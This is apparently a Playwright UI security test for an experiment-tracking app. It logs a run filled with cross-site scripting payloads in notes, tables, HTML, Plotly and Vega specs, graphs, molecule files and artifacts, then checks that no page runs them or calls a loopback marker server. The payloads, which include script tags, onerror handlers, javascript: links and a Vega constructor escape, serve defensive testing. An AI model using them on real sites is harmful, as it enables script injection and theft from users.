"""A store full of hostile values (a run someone else logged): every field that the UI
shows holds a payload that, if it ever ran, would set ``window.__pwned`` or call a marker
server on another port. Every page and tab is opened; nothing may run, nothing may call
the marker, no logged chart may bring its own embed options, and the app itself must not
trip its own Content-Security-Policy."""

from __future__ import annotations

import http.server
import itertools
import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect
from tests.ui.conftest import LiveServer

import cairn
from cairn.sdk.charts import register_spec

MARK_PATH = "/__pwned"


class Marker:
    """A server on another loopback port that records every request it gets."""

    def __init__(self) -> None:
        hits = self.hits = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}{MARK_PATH}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def marker() -> Iterator[Marker]:
    started = Marker()
    yield started
    started.server.shutdown()
    started.server.server_close()


def payloads(mark: str) -> list[str]:
    call = f"window.__pwned=1;fetch('{mark}')"
    return [f"<img src=x onerror=\"{call}\">", f"<script>{call}</script>",
            f"<svg onload=\"{call}\"></svg>", f"javascript:{call}",
            f"<iframe src=\"javascript:{call}\"></iframe>", f"${{{call}}}",
            f"\"><a href=\"javascript:{call}\">x</a>"]


def hostile_spec(mark: str, schema: str, code: bool) -> dict[str, Any]:
    """A spec that asks vega-embed for its actions menu, code generation and a loader of
    its own; with ``code``, expressions that would run JavaScript if it got them."""
    call = "constructor.constructor('window.__pwned=1;fetch(\"" + mark + "\")')()"
    spec: dict[str, Any] = {
        "$schema": schema,
        "usermeta": {"embedOptions": {"actions": True, "ast": False, "defaultStyle": True,
                                      "loader": {"baseURL": mark},
                                      "i18n": {"SOURCE_ACTION": payloads(mark)[0]}}},
        "title": payloads(mark)[0],
        "data": {"name": "wandb"},
        "mark": {"type": "point", "tooltip": True},
        "encoding": {"x": {"field": "${field:x}", "type": "nominal"}},
    }
    if code:
        spec["transform"] = [{"calculate": call, "as": "y2"}]
        spec["encoding"]["href"] = {"value": f"javascript:{call}"}
    return spec


def hostile_layout(mark: str) -> dict[str, Any]:
    p0 = payloads(mark)[0]
    spec = json.dumps({**hostile_spec(mark, "https://vega.github.io/schema/vega-lite/v5.json",
                                      code=True), "data": {"url": mark}})
    panels = [("media", {"mediaKey": "evil_graph", "title": p0}),
              ("histogram", {"mediaKey": p0, "title": p0}),
              ("vega", {"spec": spec, "title": p0}),
              ("vega", {"mediaKey": "evil_lite", "title": p0}),
              ("media", {"mediaKey": "evil_molecule", "title": p0, "maxRuns": 1e9})]
    return {"sections": [{"id": "evil", "name": p0, "panels": [
        {"id": f"p{i}", "type": t, "settings": settings} for i, (t, settings) in
        enumerate(panels)]}], "hidden": []}


def log_hostile_run(mark: str, tmp: Path) -> Any:
    bad = payloads(mark)
    p0 = bad[0]
    lite = "https://vega.github.io/schema/vega-lite/v5.json"
    register_spec("evil/menu/v0", hostile_spec(mark, lite, code=False))
    register_spec("evil/lite/v0", hostile_spec(mark, lite, code=True))
    register_spec("evil/vega/v0", hostile_spec(mark, "https://vega.github.io/schema/vega/v5.json",
                                               code=True))
    notes = "\n\n".join([*bad, "[x](javascript:window.__pwned=1)",
                         "$$\\href{javascript:window.__pwned=1}{y}$$",
                         f"<img src='{mark}'>", f"![i]({mark})"])
    run = cairn.init(project="proj", name=p0, notes=notes, tags=bad[:3], group=p0,
                     job_type=p0, config={b: b for b in bad})
    print(*bad, sep="\n")
    table = cairn.Table(columns=[p0, "v"], data=[[b, b] for b in bad])
    run.log({p0: 1.0, "evil_table": table,
             "evil_html": cairn.Html("".join(bad) + f"<img src='{mark}'>"),
             "evil_html_scripts": cairn.Html(
                 f"<script>try{{parent.__pwned=1}}catch(e){{}}"
                 f"try{{top.__pwned=1}}catch(e){{}}fetch('{mark}').catch(()=>0)</script>",
                 inject=False, scripts=True),
             "evil_plotly": cairn.Plotly({
                 "data": [{"type": "scatter", "x": [1, 2], "y": [1, 2], "name": p0,
                           "text": bad, "hovertemplate": bad[1]}],
                 "layout": {"title": {"text": f"<a href=\"javascript:window.__pwned=1\">{p0}</a>"},
                            "images": [{"source": mark}],
                            "annotations": [{"text": bad[1], "x": 1, "y": 1}]},
                 "config": {"showLink": True, "linkText": p0, "plotlyServerURL": mark}}),
             "evil_menu": cairn.plot_table("evil/menu/v0", table, {"x": "v"}),
             "evil_lite": cairn.plot_table("evil/lite/v0", table, {"x": "v"}),
             "evil_vega": cairn.plot_table("evil/vega/v0", table, {"x": "v"})})
    run.summary[p0] = p0
    graph = cairn.Graph()
    nodes = [graph.add_node(id=b, name=b, class_name=b, output_shape=b) for b in bad]
    for a, b in itertools.pairwise(nodes):
        graph.add_edge(a, b)
    molecule = tmp / "evil.pdb"
    molecule.write_text("".join(f"REMARK   1 {b}\n" for b in bad) + f"COMPND    {p0}\n"
                        "HETATM    1  C1  UNL     1       0.000   0.000   0.000  1.00  0.00"
                        "           C  \nHETATM    2  O1  UNL     1       1.400   0.000   0.000"
                        "  1.00  0.00           O  \nCONECT    1    2\nEND\n")
    run.log({"evil_graph": graph, "evil_molecule": cairn.Molecule(str(molecule), caption=p0)})
    evil_file = tmp / "evil.html"
    evil_file.write_text("".join(bad) + f"<script src='{mark}'></script>")
    run.save(str(evil_file), base_path=str(tmp), policy="now")
    artifact = cairn.Artifact("evil", "dataset", description=p0, metadata={p0: p0})
    artifact.add_file(str(evil_file), name="evil.html")
    run.log_artifact(artifact)
    run.alert(title="hostile", text=p0)
    run.finish()
    return run


SCROLL_DOWN = """() => { const all = document.querySelectorAll('section[data-media-key]');
  all[all.length - 1]?.scrollIntoView(); }"""
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.__violations.push(e.violatedDirective + " " + e.blockedURI));
"""


def assert_inert(page: Page, marker: Marker, dialogs: list[str], where: str) -> None:
    page.wait_for_timeout(600)
    assert page.evaluate("window.__pwned") is None, where
    assert marker.hits == [], where
    assert dialogs == [], where
    # The app's own code never needs eval: such a violation means a library broke under
    # the policy. (Inline-handler reports are expected: DOMPurify parses notes in an
    # inert document, which Chromium checks and reports; nothing there runs.)
    violations = page.evaluate("window.__violations")
    assert not [v for v in violations if "eval" in v], (where, violations)


def test_a_hostile_store_runs_nothing(page: Page, server: Callable[[], LiveServer],
                                      marker: Marker, dialogs: list[str],
                                      tmp_path: Path, screenshots: Path) -> None:
    run = log_hostile_run(marker.url, tmp_path)
    live = server()
    requests: list[str] = []
    # a request the policy blocks is announced, then fails: only finished ones count
    page.on("requestfinished", lambda r: requests.append(r.url))
    page.context.add_init_script(WATCH)
    base = f"{live.url}/{run.entity}/proj"

    page.goto(live.url)
    expect(page.get_by_role("link", name="proj", exact=True)).to_be_visible()
    assert_inert(page, marker, dialogs, "projects")

    page.goto(base)
    expect(page.get_by_role("link", name=run.name)).to_be_visible()
    assert_inert(page, marker, dialogs, "workspace")

    # A shared layout is someone's data too: media, histogram and Vega panels named by
    # payloads, one with a hostile pasted spec, one over a hostile logged chart.
    put = httpx.put(f"{live.url}/api/v1/projects/{run.entity}/proj/workspace",
                    json={"layout": hostile_layout(marker.url)})
    assert put.status_code == 200, put.text
    page.goto(base)
    kinds = page.locator("[data-panel-type]")
    expect(kinds).to_have_count(5)
    expect(page.locator('[data-panel-type="media"] .media-graph')).to_be_visible(timeout=20_000)
    # each Vega panel ends drawn or refused (the interpreter rejects the code)
    expect(page.locator('[data-panel-type="vega"] :is(canvas, [role="alert"])')).to_have_count(
        2, timeout=20_000)
    page.screenshot(path=str(screenshots / "hostile-panels.png"), full_page=True)
    expect(page.locator(".has-actions, .vega-actions, .vega-embed details")).to_have_count(0)
    assert_inert(page, marker, dialogs, "workspace panels")

    for tab in ("", "?tab=media", "?tab=files", "?tab=logs", "?tab=artifacts", "?tab=system"):
        page.goto(f"{base}/runs/{run.id}{tab}")
        expect(page.get_by_role("heading", name=run.name)).to_be_visible()
        if tab == "?tab=media":
            for key in ("evil_menu", "evil_lite", "evil_vega", "evil_plotly", "evil_html",
                        "evil_table", "evil_html_scripts", "evil_graph", "evil_molecule"):
                # panels below the fold are drawn once scrolled to
                page.evaluate(SCROLL_DOWN)
                expect(page.locator(f'section[data-media-key="{key}"]')).to_be_visible(
                    timeout=20_000)
            page.wait_for_timeout(1500)  # the charts draw lazily
            graph = page.locator('section[data-media-key="evil_graph"] .media-graph')
            expect(graph).to_have_attribute("data-nodes", str(len(payloads(marker.url))))
            expect(page.locator('section[data-media-key="evil_molecule"] .media-mol')
                   ).to_have_attribute("data-atoms", "2", timeout=20_000)
            menu = page.locator('section[data-media-key="evil_menu"]')
            expect(menu.locator("canvas")).to_be_visible(timeout=20_000)
            # a spec cannot switch vega-embed's actions menu on
            menus = page.locator(".has-actions, .vega-actions, .vega-embed details")
            expect(menus).to_have_count(0)
        if tab == "?tab=files":
            name = page.get_by_text("evil.html").first
            if name.is_visible():
                name.click()
        assert_inert(page, marker, dialogs, f"run {tab or 'overview'}")

    for path in (f"compare?runs={run.id}", "alerts", "artifacts", "artifacts/evil/v0"):
        page.goto(f"{base}/{path}")
        page.wait_for_load_state("networkidle")
        assert_inert(page, marker, dialogs, path)

    assert not [u for u in requests if MARK_PATH in u]
